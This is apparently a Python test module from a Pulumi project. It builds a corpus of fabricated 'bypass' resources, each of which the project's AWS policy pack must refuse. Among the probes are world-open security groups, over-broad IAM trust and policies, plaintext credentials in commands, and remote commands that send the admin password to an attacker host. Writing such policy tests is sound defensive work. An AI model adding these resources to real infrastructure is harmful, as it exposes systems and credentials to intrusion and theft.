"""The bypass corpus: every way around the policy pack a review found, as resources (or pairs) a
pull request could add to the program, each run through the pack as the engine runs it (its own
entry point over the analyzer's gRPC protocol, tests/standins/policy_engine.py: Analyze for each resource,
AnalyzeStack for the whole stack), at preview and at up. Each probe must be refused.

The probes are the independent review's 39 fabricated resources in its 11 gaps (issue 22), then
the earlier reviews' (IAM spellings, NotAction, widening attachments, split CIDRs, hop limits,
credential shapes, local commands). The program's own stack with no probe passes (so a refusal is
the probe's), see tests/policy/test_policies.py."""

from __future__ import annotations

import copy
import ipaddress
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from tests.standins.policy_engine import (
    POLICY_DIR,
    WITHOUT_AWS_LOOKUPS,
    EngineResource,
    autoname,
    changed,
    engine_resources,
    engine_urn,
    registration_of,
    replaced_at_preview,
    run_program,
    running_pack,
    with_aws_default_tags,
)
from tests.standins.pulumi_harness import FAKE_ACCOUNT_ID, FAKE_VPC_CIDR, dev_config

UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"  # plugin/rpc.go UnknownStringValue
SECRET = "4dabf18193072939515e22adb298388d"  # the secret signature key, rpc.go
ROOT_URN = "urn:pulumi:dev::harbor-cache::pulumi:pulumi:Stack::harbor-cache-dev"
CACHE_URN = "urn:pulumi:dev::harbor-cache::harbor-cache:index:HarborCache::harbor"
DLM_POLICY = "arn:aws:iam::aws:policy/service-role/AWSDataLifecycleManagerServiceRole"
STATE_BUCKET = "arn:aws:s3:::acme-pulumi-state"


def component_urn(component: str) -> str:
    return engine_urn("dev", CACHE_URN, f"harbor-cache:index:{component}", {"HarborVm": "harbor-vm"}.get(component, "x"))


def made(kind: str, name: str, inputs: dict, under: str | None = None, **options) -> EngineResource:
    """A fabricated resource, at the stack's root or under one of the program's components."""
    parent = component_urn(under) if under else ROOT_URN
    outputs = options.pop("outputs", None)
    return EngineResource(
        kind, name, engine_urn("dev", parent, kind, name), inputs, outputs if outputs is not None else inputs, parent, **options
    )


def document(*statements: dict) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def trust(principal: dict) -> str:
    return document({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"})


def in_policy(change: Callable[[list], None]) -> Callable[[dict], None]:
    def apply(props):
        policy = json.loads(props["policy"])
        change(policy["Statement"])
        props["policy"] = json.dumps(policy)

    return apply


def sg(name: str, ingress: list, under: str | None = "HarborVm", tags: dict | None = None) -> EngineResource:
    return made(
        "aws:ec2/securityGroup:SecurityGroup", name, {"vpcId": "vpc-0a1b2c3d", "ingress": ingress, "tags": tags or {}}, under
    )


def tcp(port: int, *cidrs: str, **extra) -> dict:
    return {"protocol": "tcp", "fromPort": port, "toPort": port, "cidrBlocks": list(cidrs), **extra}


def command(create: str, connection: dict | None = None) -> EngineResource:
    connection = connection or {"host": "192.0.2.10", "user": "ubuntu", "privateKey": "k", "hostKey": "ssh-ed25519 AAAA"}
    return made(
        "command:remote:Command",
        "probe-command",
        {"create": create, "connection": {SECRET: "1b47061264138c4ac30d75fd1eb44270", "value": connection}},
        "HarborInstall",
    )


def old_s3_exemption(props: dict) -> None:
    """Hop limit 2 with the tag that allowed it for storage s3 until issue 18."""
    props["metadataOptions"]["httpPutResponseHopLimit"] = 2
    props["tags"]["harbor-cache:imds-registry-only"] = "true"


def unprotected(resource: EngineResource) -> EngineResource:
    resource.protect = False
    return resource


def bad_imds(**options) -> dict:
    return {"httpTokens": "optional", "httpPutResponseHopLimit": 64, **options}


@dataclass
class Probe:
    gap: str
    what: str
    stack: str  # which of the program's stacks it is added to
    build: Callable[[list[EngineResource]], list[EngineResource]]
    refused_by: str  # the policy whose refusal is the point (others may refuse it too)


def instance_with_profile(
    profile: EngineResource | None, literal: str = ""
) -> Callable[[list[EngineResource]], list[EngineResource]]:
    def build(stack):
        instance = changed(stack, "harbor-vm-instance", lambda p: p.update(iamInstanceProfile=literal or profile.outputs["name"]))
        instance.property_dependencies = {
            **instance.property_dependencies,
            "iamInstanceProfile": [profile.urn] if profile else [],
        }
        return [instance, *([profile] if profile else [])]

    return build


def profile_of(role: EngineResource) -> list[EngineResource]:
    profile = made(
        "aws:iam/instanceProfile:InstanceProfile",
        "probe-profile",
        {"role": role.outputs["name"], "name": "probe-profile-1"},
        "HarborVm",
    )
    profile.property_dependencies = {"role": [role.urn]}
    return [role, profile]


def role(name: str, principal: dict) -> EngineResource:
    return made(
        "aws:iam/role:Role",
        name,
        {"assumeRolePolicy": trust(principal), "name": f"{name}-1", "path": "/harbor-cache/"},
        "HarborVm",
    )


def instance_as(role_resource: EngineResource) -> Callable[[list[EngineResource]], list[EngineResource]]:
    def build(stack):
        the_role, profile = profile_of(role_resource)
        return [the_role, *instance_with_profile(profile)(stack)]

    return build


def dlm_attachment_on(role_name: str, stack: list[EngineResource]) -> EngineResource:
    role_resource = registration_of(stack, role_name)
    attachment = changed(stack, "harbor-vm-dlm-policy", lambda p: p.update(role=role_resource.outputs["name"]))
    attachment.property_dependencies = {"role": [role_resource.urn]}
    return attachment


def registry_policy_on(bucket_arn: str, name: str = "probe-registry", under: str = "HarborVm") -> EngineResource:
    return made(
        "aws:iam/rolePolicy:RolePolicy",
        name,
        {
            "role": "harbor-vm-role-1a2b3c4",
            "policy": document(
                {"Effect": "Allow", "Action": ["s3:ListBucket"], "Resource": bucket_arn},
                {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": f"{bucket_arn}/*"},
            ),
        },
        under,
    )


def dns01_changed(change: Callable[[list], None]) -> Callable[[list[EngineResource]], list[EngineResource]]:
    return lambda stack: [changed(stack, "harbor-dns-dns01", in_policy(change))]


def set_condition(key: str, value) -> Callable[[list], None]:
    def change(statements):
        statements[0]["Condition"]["ForAllValues:StringEquals"][key] = value

    return change


def drop_types(statements):
    del statements[0]["Condition"]["ForAllValues:StringEquals"]["route53:ChangeResourceRecordSetsRecordTypes"]


def in_command(create: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
    return lambda stack: [changed(stack, "harbor-install-docker", lambda p: p.update(create=create))]


def in_connection(change: Callable[[dict], None]) -> Callable[[list[EngineResource]], list[EngineResource]]:
    return lambda stack: [changed(stack, "harbor-install-docker", lambda p: change(p["connection"]["value"]))]


def set_on(resource_name: str, /, **values) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """The program's resource with `values` set in its inputs and outputs (its property dependencies kept);
    `type:name` where two types share the name."""
    kind, _, name = resource_name.rpartition(":")
    return lambda stack: [changed(stack, name, lambda p: p.update(values), kind)]


def output_of(stack: list[EngineResource], name: str, key: str = "id"):
    """An output of the program's resource `name` (a bridged resource's id by default)."""
    return registration_of(stack, name).outputs[key]


def halves_rules(kind: str, port: int, group: str) -> list[EngineResource]:
    if kind == "aws:ec2/securityGroupRule:SecurityGroupRule":
        shape = {"type": "ingress", "protocol": "tcp", "fromPort": port, "toPort": port, "securityGroupId": group}
        return [
            made(kind, f"probe-half-{i}", {**shape, "cidrBlocks": [block]})
            for i, block in enumerate(("0.0.0.0/1", "128.0.0.0/1"))
        ]
    shape = {"ipProtocol": "tcp", "fromPort": port, "toPort": port, "securityGroupId": group}
    return [made(kind, f"probe-half-{i}", {**shape, "cidrIpv4": block}) for i, block in enumerate(("0.0.0.0/1", "128.0.0.0/1"))]


PROBES = [
    # 1. IMDS rules read only aws:ec2/instance:Instance.
    Probe(
        "imds",
        "launch template with IMDSv1 and hop limit 64",
        "dev",
        lambda s: [made("aws:ec2/launchTemplate:LaunchTemplate", "probe-lt", {"metadataOptions": bad_imds()})],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "imds",
        "launch template with IMDSv2 (a template is refused whatever it says)",
        "dev",
        lambda s: [made("aws:ec2/launchTemplate:LaunchTemplate", "probe-lt", {"metadataOptions": {"httpTokens": "required"}})],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "imds",
        "the program's instance started from a launch template",
        "dev",
        set_on("harbor-vm-instance", launchTemplate={"id": "lt-0123456789abcdef0"}),
        refused_by="aws-ec2-instance-instance",
    ),
    Probe(
        "imds",
        "spot instance request with IMDSv1",
        "dev",
        lambda s: [made("aws:ec2/spotInstanceRequest:SpotInstanceRequest", "probe-spot", {"metadataOptions": bad_imds()})],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "imds",
        "account InstanceMetadataDefaults allowing IMDSv1 everywhere",
        "dev",
        lambda s: [
            made(
                "aws:ec2/instanceMetadataDefaults:InstanceMetadataDefaults",
                "probe-defaults",
                {"httpTokens": "optional", "httpPutResponseHopLimit": 64},
            )
        ],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "imds",
        "the IPv6 IMDS endpoint on the program's instance",
        "dev",
        lambda s: [changed(s, "harbor-vm-instance", lambda p: p["metadataOptions"].update(httpProtocolIpv6="enabled"))],
        refused_by="aws-ec2-instance-instance",
    ),
    # 2. Instance identity never checked.
    Probe(
        "identity",
        "a pre-existing admin instance profile on the program's instance",
        "dev",
        instance_with_profile(None, literal="AdminInstanceProfile"),
        refused_by="instances-run-as-the-programs-role",
    ),
    Probe(
        "identity",
        "an instance role trusted by {AWS: *}",
        "dev",
        instance_as(role("probe-role", {"AWS": "*"})),
        refused_by="aws-iam-role-role",
    ),
    Probe(
        "identity",
        "an instance role trusted by EC2 and {AWS: *}",
        "dev",
        instance_as(role("probe-role", {"Service": "ec2.amazonaws.com", "AWS": "*"})),
        refused_by="aws-iam-role-role",
    ),
    # 3. Security groups.
    Probe(
        "security-groups",
        "the VPC's default security group open to the world",
        "dev",
        lambda s: [
            made("aws:ec2/defaultSecurityGroup:DefaultSecurityGroup", "probe-default", {"ingress": [tcp(443, "0.0.0.0/0")]})
        ],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "security-groups",
        "a prefix list holding 0.0.0.0/0",
        "dev",
        lambda s: [
            made("aws:ec2/managedPrefixList:ManagedPrefixList", "probe-pl", {"entries": [{"cidr": "0.0.0.0/0"}], "maxEntries": 1})
        ],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "security-groups",
        "443 from a prefix list on the program's group",
        "dev",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(443, prefixListIds=["pl-0123456789abcdef0"])))],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "security-groups",
        "443 split into 0.0.0.0/1 + 128.0.0.0/1 across stand-alone rules",
        "dev",
        lambda s: halves_rules("aws:ec2/securityGroupRule:SecurityGroupRule", 443, output_of(s, "harbor-vm-sg")),
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "security-groups",
        "22 split across vpc ingress rules on a group unknown at preview",
        "dev",
        lambda s: halves_rules("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", 22, UNKNOWN),
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "security-groups",
        "a rule whose CIDR is unknown at preview",
        "dev",
        lambda s: [sg("probe-sg", [tcp(22, UNKNOWN)])],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "security-groups",
        "8080 on the nodes' group from the world",
        "ha",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(8080, "0.0.0.0/0")))],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "security-groups",
        "every port from a private range (protocol -1)",
        "dev",
        lambda s: [sg("probe-sg", [{"protocol": "-1", "fromPort": 0, "toPort": 0, "cidrBlocks": ["10.0.0.0/8"]}])],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    # 4. A ListenerRule forwarding plain HTTP.
    Probe(
        "listener",
        "a listener rule forwarding the HTTP listener to the nodes",
        "ha",
        lambda s: [
            made(
                "aws:lb/listenerRule:ListenerRule",
                "probe-rule",
                {
                    "listenerArn": "arn:aws:elasticloadbalancing:eu-central-1:1:listener/app/x/1/2",
                    "actions": [{"type": "forward", "targetGroupArn": "tg"}],
                    "conditions": [{"pathPattern": {"values": ["/*"]}}],
                },
                "HarborLoadBalancer",
            )
        ],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "listener",
        "the HTTP listener forwarding instead of redirecting",
        "ha",
        lambda s: [
            changed(s, "harbor-lb-http", lambda p: p.update(defaultActions=[{"type": "forward", "targetGroupArn": "tg"}]))
        ],
        refused_by="aws-lb-listener-listener",
    ),
    # 5. The DLM service policy.
    Probe(
        "dlm",
        "DLM's policy on the instance role through RolePolicyAttachmentsExclusive",
        "dev",
        lambda s: [
            made(
                "aws:iam/rolePolicyAttachmentsExclusive:RolePolicyAttachmentsExclusive",
                "probe-exclusive",
                {"roleName": "harbor-vm-role-1a2b3c4", "policyArns": [DLM_POLICY]},
                "HarborVm",
            )
        ],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "dlm",
        "the DLM role trusting {Service: dlm, AWS: *}",
        "dev",
        lambda s: [
            changed(
                s, "harbor-vm-dlm-role", lambda p: p.update(assumeRolePolicy=trust({"Service": "dlm.amazonaws.com", "AWS": "*"}))
            )
        ],
        refused_by="aws-iam-role-role",
    ),
    Probe(
        "dlm",
        "the program's DLM attachment moved to the instance role",
        "dev",
        lambda s: [dlm_attachment_on("harbor-vm-role", s)],
        refused_by="role-grants-land-on-the-right-role",
    ),
    # 6. The registry's S3 exemption.
    Probe(
        "s3",
        "registry actions on the Pulumi state bucket in another role policy",
        "s3",
        lambda s: [registry_policy_on(STATE_BUCKET)],
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
    Probe(
        "s3",
        "the program's registry policy pointed at the Pulumi state bucket",
        "s3",
        lambda s: [
            changed(
                s,
                "harbor-storage-registry-access",
                lambda p: p.update(policy=json.loads(json.dumps(registry_policy_on(STATE_BUCKET).inputs["policy"]))),
            )
        ],
        refused_by="registry-grant-names-the-programs-bucket",
    ),
    # 7. DNS-01 scope.
    Probe(
        "dns01",
        "_acme-challenge of another name",
        "dev",
        dns01_changed(
            set_condition("route53:ChangeResourceRecordSetsNormalizedRecordNames", ["_acme-challenge.bank.example.com"])
        ),
        refused_by="dns01-names-the-programs-hostname",
    ),
    Probe(
        "dns01",
        "_acme-challenge of the cache and another name",
        "dev",
        dns01_changed(
            set_condition(
                "route53:ChangeResourceRecordSetsNormalizedRecordNames",
                ["_acme-challenge.harbor.dev.example.com", "_acme-challenge.www.dev.example.com"],
            )
        ),
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
    Probe(
        "dns01",
        "no RecordTypes condition (any type, NS too)",
        "dev",
        dns01_changed(drop_types),
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
    # 8. Unknown or unparseable policy documents.
    Probe(
        "documents",
        "a role policy whose document is unknown at preview",
        "dev",
        lambda s: [
            made(
                "aws:iam/rolePolicy:RolePolicy", "probe-policy", {"role": "harbor-vm-role-1a2b3c4", "policy": UNKNOWN}, "HarborVm"
            )
        ],
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
    Probe(
        "documents",
        "a role policy AWS reads but json.loads does not (trailing text)",
        "dev",
        lambda s: [
            made(
                "aws:iam/rolePolicy:RolePolicy",
                "probe-policy",
                {"role": "r", "policy": document({"Effect": "Allow", "Action": "*", "Resource": "*"}) + " x"},
                "HarborVm",
            )
        ],
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
    Probe(
        "documents",
        "a document with two Statement keys (parsers disagree which counts)",
        "dev",
        lambda s: [
            changed(
                s,
                "harbor-dns-dns01",
                lambda p: p.update(
                    policy=p["policy"][:-1] + ', "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}'
                ),
            )
        ],
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
    # 9. Credential shapes in command lines, connection.password.
    *(
        Probe("credentials", what, "dev", in_command(line), refused_by="command-remote-command")
        for what, line in (
            ("curl -u user:pass", "curl -u admin:Harbor12345 https://127.0.0.1/api/v2.0/users"),
            ("an Authorization header", "curl -H 'Authorization: Bearer eyJhbGciOi' https://x"),
            ("URL user info", "skopeo copy docker://robot:hunter2@harbor.example.com/a b"),
            ("redis-cli -a", "redis-cli -a hunter2 -h redis FLUSHALL"),
            ("htpasswd -b", "htpasswd -b /etc/registry/passwd admin hunter2"),
            ("docker login -p", "docker login -u admin -p hunter2 harbor.example.com"),
        )
    ),
    Probe(
        "credentials",
        "connection.password",
        "dev",
        in_connection(lambda c: c.update(password="hunter2")),
        refused_by="command-remote-command",
    ),
    # 10. Promises without a rule.
    Probe(
        "promises",
        "a password in the user data",
        "dev",
        lambda s: [
            changed(
                s,
                "harbor-vm-instance",
                lambda p: p.update(userData=p["userData"] + "chpasswd: {list: 'ubuntu:hunter2'}\npassword: hunter2\n"),
            )
        ],
        refused_by="aws-ec2-instance-instance",
    ),
    *(
        Probe("promises", what, "s3", set_on(name, **values), refused_by=policy)
        for what, name, values, policy in (
            ("RDS publicly accessible", "harbor-data-db", {"publiclyAccessible": True}, "aws-rds-instance-instance"),
            ("RDS unencrypted", "harbor-data-db", {"storageEncrypted": False}, "aws-rds-instance-instance"),
            (
                "ElastiCache without TLS",
                "harbor-data-redis",
                {"transitEncryptionEnabled": False},
                "aws-elasticache-replicationgroup-replicationgroup",
            ),
            (
                "ElastiCache unencrypted at rest",
                "harbor-data-redis",
                {"atRestEncryptionEnabled": False},
                "aws-elasticache-replicationgroup-replicationgroup",
            ),
        )
    ),
    # Exposure of Redis: without an AUTH token (auth_token, components/aws/data_services.py) anything that reaches the
    # group's port reads and writes Harbor's sessions and job queue; ElastiCache accepts a TLS group without one.
    Probe(
        "promises",
        "ElastiCache without an AUTH token",
        "s3",
        lambda s: [changed(s, "harbor-data-redis", lambda p: p.pop("authToken"))],
        refused_by="aws-elasticache-replicationgroup-replicationgroup",
    ),
    Probe(
        "promises",
        "the bucket's public access block off",
        "s3",
        lambda s: [
            changed(
                s, "harbor-storage-public-access-block", lambda p: p.update(blockPublicPolicy=False, restrictPublicBuckets=False)
            )
        ],
        refused_by="aws-s3-bucketpublicaccessblock-bucketpublicaccessblock",
    ),
    Probe(
        "promises",
        "a remote command without connection.hostKey",
        "dev",
        in_connection(lambda c: c.pop("hostKey")),
        refused_by="command-remote-command",
    ),
    # 11. The pack's exemption tags set from `tags`.
    Probe(
        "exemption-tags",
        "a group of its own with allow-public-access, 443 open",
        "dev",
        lambda s: [sg("probe-sg", [tcp(443, "0.0.0.0/0")], under=None, tags={"harbor-cache:allow-public-access": "true"})],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "exemption-tags",
        "a volume of its own with node-scratch, unprotected",
        "dev",
        lambda s: [
            made(
                "aws:ebs/volume:Volume",
                "probe-data",
                {"encrypted": True, "size": 500, "tags": {"harbor-cache:node-scratch": "true"}},
                "HarborVm",
            )
        ],
        refused_by="aws-ebs-volume-volume",
    ),
    Probe(
        "exemption-tags",
        "the program's data volume of node 0 tagged node-scratch, unprotected",
        "dev",
        lambda s: [unprotected(changed(s, "harbor-vm-data", lambda p: p["tags"].update({"harbor-cache:node-scratch": "true"})))],
        refused_by="aws-ebs-volume-volume",
    ),
    # Earlier reviews.
    *(
        Probe("earlier", what, "dev", dns01_changed(change), refused_by="aws-iam-rolepolicy-rolepolicy")
        for what, change in (
            ("route53:Change* instead of the exact action", lambda st: st[0].update(Action="route53:Change*")),
            ("the exact action in lower case", lambda st: st[0].update(Action="route53:changeresourcerecordsets")),
            ("NotAction iam:*", lambda st: st.append({"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"})),
        )
    ),
    Probe(
        "earlier",
        "AdministratorAccess on the instance role",
        "dev",
        lambda s: [
            changed(s, "harbor-vm-dlm-policy", lambda p: p.update(policyArn="arn:aws:iam::aws:policy/AdministratorAccess"))
        ],
        refused_by="aws-iam-rolepolicyattachment-rolepolicyattachment",
    ),
    Probe(
        "earlier",
        "a PolicyAttachment",
        "dev",
        lambda s: [
            made(
                "aws:iam/policyAttachment:PolicyAttachment",
                "probe-attach",
                {"roles": ["harbor-vm-role-1a2b3c4"], "policyArn": DLM_POLICY},
            )
        ],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "earlier",
        "22 from 0.0.0.0/1 + 128.0.0.0/1 in one group",
        "dev",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].extend([tcp(22, "0.0.0.0/1"), tcp(22, "128.0.0.0/1")]))],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "earlier",
        "443 from client addresses straight to the nodes behind the load balancer",
        "ha",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(443, "198.51.100.0/24")))],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "earlier",
        "hop limit 2 with the old s3 guard tag",
        "dev",
        lambda s: [changed(s, "harbor-vm-instance", old_s3_exemption)],
        refused_by="aws-ec2-instance-instance",
    ),
    Probe(
        "earlier",
        "a local command with a token in its environment",
        "dev",
        lambda s: [
            made(
                "command:local:Command",
                "probe-local",
                {"create": "./sync.sh", "environment": {"TOKEN": "dckr_pat_abcdefghijklmnopqrstuvwx"}},
            )
        ],
        refused_by="only-the-programs-resource-types",
    ),
    Probe(
        "earlier",
        "a Harbor object sending the admin password elsewhere",
        "dev",
        set_on("harbor-config-gc", harbor_url="https://harbor.attacker.example"),
        refused_by="pulumi-python-dynamic-harbor-gcschedule",
    ),
    Probe(
        "earlier",
        "a password in a command's environment",
        "dev",
        set_on("harbor-install-docker", environment={"HARBOR_PASSWORD": "hunter2"}),
        refused_by="command-remote-command",
    ),
]
# The second independent review of issue 22 (its findings 1-10), each probe passed the pack before its fix.
SECRET_SIGNATURE = "1b47061264138c4ac30d75fd1eb44270"


def exfiltrating_command(stack: list[EngineResource]) -> list[EngineResource]:
    """Review 2, P1: a new remote command at the stack's root to a foreign host with its own pinned key, the
    admin password on stdin."""
    connection = {"host": "203.0.113.66", "user": "x", "privateKey": "k", "hostKey": "ssh-ed25519 AAAAattacker"}
    return [
        made(
            "command:remote:Command",
            "exfil",
            {
                "create": "cat > /dev/null",
                "stdin": {SECRET: SECRET_SIGNATURE, "value": "the-admin-password"},
                "connection": {SECRET: SECRET_SIGNATURE, "value": connection},
            },
        )
    ]


def repointed_command(stack: list[EngineResource]) -> list[EngineResource]:
    """Review 2, P1b: the program's own command re-pointed to another host and key (its dependencies unchanged)."""
    return in_connection(lambda c: c.update(host="203.0.113.66", hostKey="ssh-ed25519 AAAAattacker"))(stack)


def command_from_a_foreign_host(stack: list[EngineResource]) -> list[EngineResource]:
    """The program's command with its connection from a resource of the probe's, not the VM's EIP."""
    eip = made("aws:ec2/eip:Eip", "probe-eip", {"domain": "vpc"}, outputs={"domain": "vpc", "publicIp": "203.0.113.66"})
    command_resource = repointed_command(stack)[0]
    deps = [u for u in command_resource.property_dependencies["connection"] if not u.endswith("-eip")]
    command_resource.property_dependencies = {**command_resource.property_dependencies, "connection": [*deps, eip.urn]}
    return [eip, command_resource]


REVIEW2_PROBES = [
    Probe(
        "review2-remote-commands",
        "P1 a remote command at the root to any host with its own pinned key, a secret on stdin",
        "dev",
        exfiltrating_command,
        refused_by="command-remote-command",
    ),
    Probe(
        "review2-remote-commands",
        "P1 (stack) the same command is no program component's",
        "dev",
        exfiltrating_command,
        refused_by="remote-commands-reach-the-programs-vms",
    ),
    Probe(
        "review2-remote-commands",
        "P1b the program's command re-pointed to another host and key",
        "dev",
        repointed_command,
        refused_by="remote-commands-reach-the-programs-vms",
    ),
    Probe(
        "review2-remote-commands",
        "P1c the program's command connecting through an EIP of its own",
        "dev",
        command_from_a_foreign_host,
        refused_by="remote-commands-reach-the-programs-vms",
    ),
    Probe(
        "review2-remote-commands",
        "P1d node 1's command with node 0's host key",
        "ha",
        lambda s: [node1_with_node0_key(s)],
        refused_by="remote-commands-reach-the-programs-vms",
    ),
]


def node1_with_node0_key(stack: list[EngineResource]) -> EngineResource:
    command_resource = changed(stack, "harbor-install-1-start", lambda p: p)
    key0 = registration_of(stack, "harbor-vm-host-key").urn
    deps = [u if not u.endswith("-host-key") else key0 for u in command_resource.property_dependencies["connection"]]
    command_resource.property_dependencies = {**command_resource.property_dependencies, "connection": deps}
    return command_resource


def registry_policy_behind(value: str, depend_on_random: bool) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """Review 2, finding 2: the program's registry policy with its document from a RandomId (unknown at preview),
    or naming the Pulumi state bucket (at `up`, where the stack checks come after the change)."""

    def build(stack):
        nonce = made("random:index/randomId:RandomId", "nonce", {"byteLength": 4}, outputs={"byteLength": 4, "hex": UNKNOWN})
        policy = changed(stack, "harbor-storage-registry-access", lambda p: p.update(policy=value))
        if depend_on_random:
            policy.property_dependencies = {**policy.property_dependencies, "policy": [nonce.urn]}
        return [nonce, policy]

    return build


STATE_BUCKET_GRANT = document(
    {"Effect": "Allow", "Action": ["s3:ListBucket"], "Resource": STATE_BUCKET},
    {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": f"{STATE_BUCKET}/*"},
)
REVIEW2_PROBES += [
    Probe(
        "review2-registry-grant",
        "P-registry: the registry policy's document unknown, from a RandomId instead of the bucket",
        "s3",
        registry_policy_behind(UNKNOWN, depend_on_random=True),
        refused_by="registry-grant-names-the-programs-bucket",
    ),
    Probe(
        "review2-registry-grant",
        "P-registry at up: the registry policy names the state bucket (resource check, before the change)",
        "s3",
        registry_policy_behind(STATE_BUCKET_GRANT, depend_on_random=True),
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
]

EXEMPTION_DEFAULT_TAGS = {"tags": {"harbor-cache:allow-public-access": "true"}}


def public_by_default_tags(provider_major: int | None) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """Review 2, finding 3: aws:defaultTags with the public exemption, merged by pulumi-aws into every resource
    (the harness's model of its Check: into tagsAll in v7, into tags too in v6), and the program's web group
    opened to the world."""

    def build(stack):
        tagged = with_aws_default_tags(stack, EXEMPTION_DEFAULT_TAGS, provider_major)
        provider = next(r for r in tagged if r.type == "pulumi:providers:aws")
        group = next(r for r in tagged if r.name == "harbor-vm-sg")
        for properties in (group.inputs, group.outputs):
            properties["ingress"].append(tcp(443, "0.0.0.0/0"))
        return [provider, group]

    return build


REVIEW2_PROBES += [
    Probe(
        "review2-default-tags",
        "P-defaultTags: the AWS provider's defaultTags carry the public exemption",
        "dev",
        lambda s: [r for r in with_aws_default_tags(s, EXEMPTION_DEFAULT_TAGS) if r.type == "pulumi:providers:aws"],
        refused_by="pulumi-providers-aws",
    ),
    Probe(
        "review2-default-tags",
        "P-defaultTags: the web group opened to the world under a provider with the exemption as a default tag",
        "dev",
        public_by_default_tags(None),
        refused_by="program-tags-come-from-the-program",
    ),
    Probe(
        "review2-default-tags",
        "P-defaultTags (pulumi-aws v6 merge into tags): the web group opened to the world",
        "dev",
        public_by_default_tags(6),
        refused_by="program-tags-come-from-the-program",
    ),
]


def public_group_under_a_second_vm(group_name: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """Review 2, P7: a web group with the public tag under a HarborVm the program does not make."""

    def build(stack):
        vm = engine_urn("dev", CACHE_URN, "harbor-cache:index:HarborVm", "anything")
        component_resource = EngineResource("harbor-cache:index:HarborVm", "anything", vm, {}, {}, CACHE_URN)
        inputs = {
            "vpcId": "vpc-0a1b2c3d",
            "ingress": [tcp(443, "0.0.0.0/0")],
            "tags": {"harbor-cache:allow-public-access": "true"},
        }
        group = EngineResource(
            "aws:ec2/securityGroup:SecurityGroup",
            group_name,
            engine_urn("dev", vm, "aws:ec2/securityGroup:SecurityGroup", group_name),
            inputs,
            inputs,
            vm,
        )
        return [component_resource, group]

    return build


REVIEW2_PROBES += [
    Probe(
        "review2-exemption-by-urn",
        "P7 a world-open web group with the public tag under a second HarborVm",
        "dev",
        lambda s: public_group_under_a_second_vm("evil-sg")(s)[1:],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "review2-exemption-by-urn",
        "P7b the same named like a node group (harbor-vm-9-sg)",
        "dev",
        lambda s: public_group_under_a_second_vm("harbor-vm-9-sg")(s)[1:],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "review2-exemption-by-urn",
        "P7c a second HarborVm component",
        "dev",
        lambda s: public_group_under_a_second_vm("evil-sg")(s)[:1],
        refused_by="components-are-the-programs",
    ),
]


def split_ssh_world(stack: list[EngineResource]) -> list[EngineResource]:
    """Review 2, P2: 22 from the world split across two new groups, both attached to the instance."""
    a = sg("extra-a", [tcp(22, "0.0.0.0/1")], under=None)
    b = sg("extra-b", [tcp(22, "128.0.0.0/1")], under=None)
    ids = [output_of(stack, "harbor-vm-sg"), "sg-0a0000000000000aa", "sg-0b0000000000000bb"]
    instance = changed(stack, "harbor-vm-instance", lambda p: p.update(vpcSecurityGroupIds=ids))
    instance.property_dependencies = {
        **instance.property_dependencies,
        "vpcSecurityGroupIds": [registration_of(stack, "harbor-vm-sg").urn, a.urn, b.urn],
    }
    return [a, b, instance]


FOREIGN_GROUP = "sg-0worldopen000000"
REVIEW2_PROBES += [
    Probe(
        "review2-foreign-groups",
        "P2 22 from the world split across two groups on one instance",
        "dev",
        split_ssh_world,
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review2-foreign-groups",
        "P4 8080 and 5432 from a literal (the VPC's default) group",
        "ha",
        lambda s: [
            changed(
                s,
                "harbor-vm-sg",
                lambda p: (
                    p["ingress"][0].update(securityGroups=["sg-0default00000000"]),
                    p["ingress"].append(tcp(5432, securityGroups=["sg-0default00000000"])),
                ),
            )
        ],
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review2-foreign-groups",
        "P5 the instance joins a literal pre-existing group",
        "dev",
